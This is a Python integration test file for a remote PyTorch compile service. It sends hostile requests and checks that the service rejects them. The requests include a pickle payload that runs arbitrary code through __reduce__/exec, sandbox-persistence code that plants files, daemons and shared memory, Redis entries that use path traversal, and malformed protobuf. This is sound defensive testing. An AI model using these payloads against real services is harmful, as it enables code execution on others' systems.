"""Attacks on the real session farm. Each asserts that the attack failed AND that the farm
still serves the next honest request."""

import json
import os
import pickle
import re
import socket
import uuid

import grpc
import pytest
import torch

import torchfarm
from tests.integration.helpers import ADMIN_TOKEN, TOKENS, direct_request, past_gateway_memory
from torchfarm.cache import keys
from torchfarm.cache.artifacts import index_value
from torchfarm.client import backend
from torchfarm.compiler.target import local_target
from torchfarm.contract.cache_key import cache_key
from torchfarm.proto import torchfarm_pb2 as pb
from torchfarm.proto import torchfarm_pb2_grpc as pb_grpc

pytestmark = pytest.mark.integration
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def _call(farm, method: str, request, tenant: str = "alice"):
    with grpc.insecure_channel(farm.addr) as channel:
        reply = getattr(pb_grpc.FarmStub(channel), method)(
            request, metadata=[("authorization", f"Bearer {TOKENS[tenant]}")], timeout=300
        )
        return list(reply) if method == "Compile" else reply


def _compile(farm, request, tenant: str = "alice") -> list:
    return _call(farm, "Compile", request, tenant)


def _header(events) -> pb.ArtifactHeader:
    return next(e.header for e in events if e.WhichOneof("event") == "header")


class _Exploit:
    """Unpickling this runs `code`: what a hostile client would put in a graph payload."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def test_malicious_pickle_writes_nothing_reaches_nobody_and_sees_no_secret(farm, tmp_path):
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(3)
    port = listener.getsockname()[1]
    os.makedirs(os.path.join(ROOT, ".cache"), exist_ok=True)
    markers = [
        str(tmp_path / "pwned"),
        os.path.join(ROOT, ".cache", f"pwned-{uuid.uuid4().hex}"),
        os.path.expanduser(f"~/pwned-{uuid.uuid4().hex}"),
    ]
    code = f"""
import os, socket
for path in {markers!r}:
    try:
        open(path, "w").write("pwned")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned")
except OSError:
    pass
raise RuntimeError("exploit ran; environment: " + ",".join(sorted(os.environ)))
"""
    request = pb.CompileRequest(graph=pickle.dumps(_Exploit(code)), target=local_target())
    with pytest.raises(grpc.RpcError) as e:
        _compile(farm, request)
    assert e.value.code() == grpc.StatusCode.ABORTED
    details = e.value.details()
    assert "exploit ran" in details  # the code did run: the sandbox, not luck, stopped it
    assert "TORCHFARM" not in details and "REDIS" not in details  # no secret in its env
    assert not any(os.path.exists(m) for m in markers)
    with pytest.raises(TimeoutError):  # socket.timeout: nothing connected
        listener.accept()
    listener.close()

    model = torch.nn.Sequential(torch.nn.Linear(6, 10), torch.nn.SiLU())
    compiled = torchfarm.compile(model, addr=farm.addr, token=TOKENS["alice"])
    x = torch.randn(2, 6)
    with torch.no_grad():
        torch.testing.assert_close(compiled(x), model(x))
    assert [r.source for r in backend.history] == ["miss"]


# What a hostile request leaves in its sandbox for the next request a warm parent forks
# (workers/warm_fork.py): files in every writable place, a daemon, a System V segment.
_LEAVE = """
import ctypes, os, sys, time
for path in ("/tmp/left", os.path.expanduser("~/left-home"), "/dev/shm/left", "/dev/left"):
    open(path, "w").write("left by the last tenant")
os.makedirs(os.environ["TORCHINDUCTOR_CACHE_DIR"] + "/planted", exist_ok=True)
libc = ctypes.CDLL(None)
assert libc.shmget(0x7f17, 4096, 0o1666) >= 0
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
raise RuntimeError("exploit ran: left its things, pid %d" % os.getpid())
"""
_FIND = """
import json, os
me, parent = os.getpid(), os.getppid()
def stat(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return fields[0], int(fields[1])
others = []
for p in filter(str.isdigit, os.listdir("/proc")):
    state, ppid = stat(p)
    if int(p) not in (1, me, parent) and ppid != me and state != "Z":
        others.append(open(f"/proc/{p}/cmdline").read())
files = []
for path in ("/tmp/left", os.path.expanduser("~/left-home"), "/dev/shm/left", "/dev/left",
             os.environ["TORCHINDUCTOR_CACHE_DIR"] + "/planted"):
    if os.path.exists(path):
        files.append(path)
found = {
    "files": files,
    "processes": others,
    "sysv": open("/proc/sysvipc/shm").read().splitlines()[1:],
    "forked": parent != 1,  # bwrap's init is 1: a started child's parent
    "pid": me,
}
raise RuntimeError("exploit ran: found " + json.dumps(found))
"""


def test_a_request_finds_nothing_a_hostile_request_left_in_its_sandbox(farm):
    """On CPU a warm parent forks each request's child in the same sandbox: the next
    request, forked from the same warm state, finds no file, process or IPC object of the
    last one, and runs in a process of its own."""
    for code in (_LEAVE, _FIND):
        request = pb.CompileRequest(graph=pickle.dumps(_Exploit(code)), target=local_target())
        with pytest.raises(grpc.RpcError) as e:
            _compile(farm, request, tenant="bob" if code == _LEAVE else "alice")
        assert "exploit ran" in e.value.details()
        if code == _LEAVE:
            first = int(re.search(r"left its things, pid (\d+)", e.value.details())[1])
    found = json.loads(e.value.details().split("exploit ran: found ")[1].splitlines()[0])
    assert found["forked"]  # by a warm parent in the same sandbox, not started in a new one
    assert found["pid"] != first
    assert found["files"] == [] and found["processes"] == [] and found["sysv"] == []
    events = _compile(farm, pb.CompileRequest(graph=_real_payload(), target=local_target()))
    assert events[-1].WhichOneof("event") == "chunk"


def _real_payload() -> bytes:
    return direct_request(
        torch.nn.Sequential(torch.nn.Linear(7, 11), torch.nn.ELU()), torch.randn(2, 7)
    ).graph


def test_malformed_payloads_get_precise_errors(farm):
    real = _real_payload()
    cases = [
        ("empty", b"", grpc.StatusCode.INVALID_ARGUMENT),
        ("random bytes", os.urandom(4096), grpc.StatusCode.ABORTED),
        ("truncated", real[: len(real) // 2], grpc.StatusCode.ABORTED),
        ("over the size limit", b"\0" * (64 << 20 + 1), grpc.StatusCode.RESOURCE_EXHAUSTED),
    ]
    for name, graph, status in cases:
        with pytest.raises(grpc.RpcError) as e:
            _compile(farm, pb.CompileRequest(graph=graph, target=local_target()))
        assert e.value.code() == status, (name, e.value.details())
    # and the intact payload still compiles
    events = _compile(farm, pb.CompileRequest(graph=real, target=local_target()))
    assert events[-1].WhichOneof("event") == "chunk"


def test_a_payload_is_never_stored_under_another_graphs_descriptor(farm, store):
    """The key of a static graph hashes its descriptor, not its payload: a client sending
    graph A's descriptor with graph B's payload is refused by the worker's child, which
    finds B's descriptor in the payload, and nothing is stored under A's key. A's own
    request then compiles (the refusal is not remembered as A's failure)."""
    inputs = torch.randn(2, 5)
    honest = direct_request(torch.nn.Sequential(torch.nn.Linear(5, 3)), inputs, described=True)
    other = direct_request(
        torch.nn.Sequential(torch.nn.Linear(5, 3), torch.nn.Sigmoid()), inputs, described=True
    )
    assert honest.descriptor and other.descriptor and honest.descriptor != other.descriptor
    key = cache_key(honest.graph, honest.target, honest.options, descriptor=honest.descriptor)
    forged = pb.CompileRequest()
    forged.CopyFrom(other)
    forged.descriptor = honest.descriptor
    with pytest.raises(grpc.RpcError) as e:
        _compile(farm, forged)
    assert e.value.code() == grpc.StatusCode.ABORTED, e.value.details()
    assert "not the graph its descriptor names" in e.value.details()
    assert not store.artifacts.entries(key)
    forged.options.compiler = "aoti"  # a compiler that would not check the descriptor
    with pytest.raises(grpc.RpcError) as e:
        _compile(farm, forged)
    assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT, e.value.details()
    served = _header(_compile(farm, honest))
    assert (served.key, served.source) == (key, "miss")
    assert [e.public_key for e in store.artifacts.entries(key)] == [key]
    assert _header(_compile(farm, other)).key != key


def test_admin_rpcs_need_an_admin_token(farm, store):
    def admin(method: str, request, token: str | None):
        with grpc.insecure_channel(farm.addr) as channel:
            metadata = [("authorization", f"Bearer {token}")] if token else []
            return getattr(pb_grpc.AdminStub(channel), method)(
                request, metadata=metadata, timeout=30
            )

    key = _header(
        _compile(farm, pb.CompileRequest(graph=_real_payload(), target=local_target()))
    ).key
    for token, status in [
        (TOKENS["alice"], grpc.StatusCode.PERMISSION_DENIED),
        ("not-a-token", grpc.StatusCode.UNAUTHENTICATED),
        (None, grpc.StatusCode.UNAUTHENTICATED),
    ]:
        for method, request in [("Stats", pb.StatsRequest()), ("Drop", pb.DropRequest(key=key))]:
            with pytest.raises(grpc.RpcError) as e:
                admin(method, request, token)
            assert e.value.code() == status, (method, token)
    assert store.artifacts.entries(key)  # the tenant's Drop removed nothing
    stats = json.loads(admin("Stats", pb.StatsRequest(), ADMIN_TOKEN).json)
    assert stats["entries"] >= 1 and "pools" in stats
    assert admin("Drop", pb.DropRequest(key=key), ADMIN_TOKEN).entries >= 1
    assert not store.artifacts.entries(key)
    rebuilt = _header(
        _compile(farm, pb.CompileRequest(graph=_real_payload(), target=local_target()))
    )
    assert rebuilt.source == "miss"  # rebuilt on the next request


def test_a_tenant_can_neither_hit_nor_see_another_tenants_private_entry(farm, store):
    request = direct_request(
        torch.nn.Sequential(torch.nn.Linear(19, 7), torch.nn.Tanh()), torch.randn(3, 19)
    )
    request.private = True
    mine = _header(_compile(farm, request, "alice"))
    assert mine.source == "miss"
    assert _header(_compile(farm, request, "alice")).source == "hit"  # alice's own repeat
    # bob sends the same graph, private or shared, even naming alice's digest
    for private in (True, False):
        attempt = pb.CompileRequest()
        attempt.CopyFrom(request)
        attempt.private, attempt.digest = private, mine.digest
        public = cache_key(attempt.graph, attempt.target, attempt.options)
        looked = _call(farm, "Lookup", pb.LookupRequest(key=public, private=private), "bob")
        assert looked.key != mine.key and not looked.candidates  # nothing to learn
        got = _header(_compile(farm, attempt, "bob"))
        assert got.source == "miss" and got.key != mine.key  # compiled for bob himself
    # nor by naming alice's private key itself
    named = _call(farm, "Lookup", pb.LookupRequest(key=mine.key), "bob")
    assert named.key == mine.key and not named.candidates
    assert [(e.tenant, e.private) for e in store.artifacts.entries(mine.key)] == [("alice", True)]


def test_wrong_field_types_get_invalid_argument(farm):
    """Raw bytes sent to the methods, as a client without the typed stubs could."""
    graph = _real_payload()
    valid = pb.CompileRequest(graph=graph, target=local_target()).SerializeToString()
    wrong = [
        b"\x08\x2a" + valid[2:],  # field 1 (graph, bytes) sent as a varint
        b"\x12\x05hello",  # field 2 (target, a message) holding no message
        b"\x1a\x03\xff\xff\xff",  # field 3 (options) with a truncated inner message
        b"\x2a\x04\x0a\x02\x00\x01",  # size_hints entry whose value is not an int64
        b"\xff\xff\xff\xff",  # not protobuf at all
    ]
    with grpc.insecure_channel(farm.addr) as channel:
        for method, streams in (("Lookup", False), ("Compile", True)):
            call = (channel.unary_stream if streams else channel.unary_unary)(
                f"/torchfarm.v1.Farm/{method}"
            )
            for raw in wrong:
                with pytest.raises(grpc.RpcError) as e:
                    reply = call(
                        raw, metadata=[("authorization", f"Bearer {TOKENS['alice']}")], timeout=60
                    )
                    list(reply) if streams else reply
                assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT, (method, raw, e.value)
    assert _compile(farm, pb.CompileRequest(graph=graph, target=local_target()))[-1].chunk


def test_a_graph_with_thousands_of_nodes_compiles_and_matches_eager(farm, store):
    class Deep(torch.nn.Module):
        def forward(self, x):
            for i in range(700):  # Dynamo unrolls the loop: 3 nodes per step
                x = torch.tanh(x * 0.5 + 0.01 * (i % 7))
            return x

    model, x = Deep(), torch.randn(8, 32)
    compiled = torchfarm.compile(model, addr=farm.addr, token=TOKENS["alice"])
    assert torch.allclose(compiled(x), model(x), atol=1e-5, rtol=1e-5)
    record = backend.history[-1]
    assert record.source == "miss", record  # compiled by the farm, not a fallback
    assert max(r.get("nodes", 0) for r in store.rows()) >= 2100


def test_index_entries_planted_in_redis_touch_no_host_file_through_the_gateway(
    farm, store, tmp_path
):
    """Issue 50's FAIL row, on the real farm (its gateway runs as root here, as under
    `torchfarm up`): whoever writes the farm's Redis plants index entries whose digests are
    paths (a traversal to a file of the test's and to its `.details`, an absolute path,
    /dev/zero), and a FIFO at a real entry's blob. A tenant's plain Get, an admin's Export
    and Drop touch none of them and wait on nothing; each bad entry is dropped and counted;
    the real entry's key then compiles again on the farm (a miss)."""
    victim = tmp_path / "victim"
    for path in (victim, tmp_path / "victim.details"):
        path.write_bytes(b"a host file")
    root = store.artifacts.blobs.root  # the farm's blob directory (the session farm's own)
    planted = [os.path.relpath(victim, os.path.join(root, keys.FORMAT)), str(victim)]
    planted.append(os.path.relpath("/dev/zero", os.path.join(root, keys.FORMAT)))
    bad_key = "e" * 64
    before = json.loads(_admin(farm, "Stats", pb.StatsRequest()).json)["bad_entries"]

    def plant() -> None:
        for name in planted:
            meta = pb.EntryMeta(digest=name, size=64, stored_bytes=64, created=1)
            store.artifacts.redis.hset(
                keys.index(bad_key), name, index_value(meta.SerializeToString())
            )
        store.artifacts.redis.zadd(keys.RECENT, {bad_key: 1})

    def get(key: str) -> str:
        with grpc.insecure_channel(farm.addr) as channel:
            events = pb_grpc.FarmStub(channel).Get(
                iter([pb.GetRequest(ask=pb.Ask(key=key))]),
                metadata=[("authorization", f"Bearer {TOKENS['alice']}")],
                timeout=60,  # a read waiting on the FIFO: DEADLINE_EXCEEDED, a failure
            )
            first = next(events)
            events.cancel()
        return first.WhichOneof("event")

    plant()
    assert get(bad_key) == "missing"
    plant()
    assert _admin(farm, "Export", pb.ExportRequest())  # every entry read, bad ones dropped
    plant()
    assert _admin(farm, "Drop", pb.DropRequest(key=bad_key)).entries == len(planted)
    request = pb.CompileRequest(graph=_real_payload(), target=local_target())
    header = _header(_compile(farm, request))
    blob = os.path.join(root, keys.blob_object(header.digest))
    os.unlink(blob)
    os.mkfifo(blob)
    past_gateway_memory()  # the blob as the gateway verified it is read again
    assert get(header.key) == "missing"  # the FIFO is no blob: the entry dropped, not waited on
    assert not os.path.lexists(blob)
    assert victim.read_bytes() == (tmp_path / "victim.details").read_bytes() == b"a host file"
    stats = json.loads(_admin(farm, "Stats", pb.StatsRequest()).json)
    assert stats["bad_entries"] - before == 3 * len(planted)  # by Get, Export and Drop
    assert _header(_compile(farm, request)).source == "miss"  # compiled again, honestly


def _admin(farm, method: str, request):
    with grpc.insecure_channel(farm.addr) as channel:
        reply = getattr(pb_grpc.AdminStub(channel), method)(
            request, metadata=[("authorization", f"Bearer {ADMIN_TOKEN}")], timeout=120
        )
        return list(reply) if method == "Export" else reply
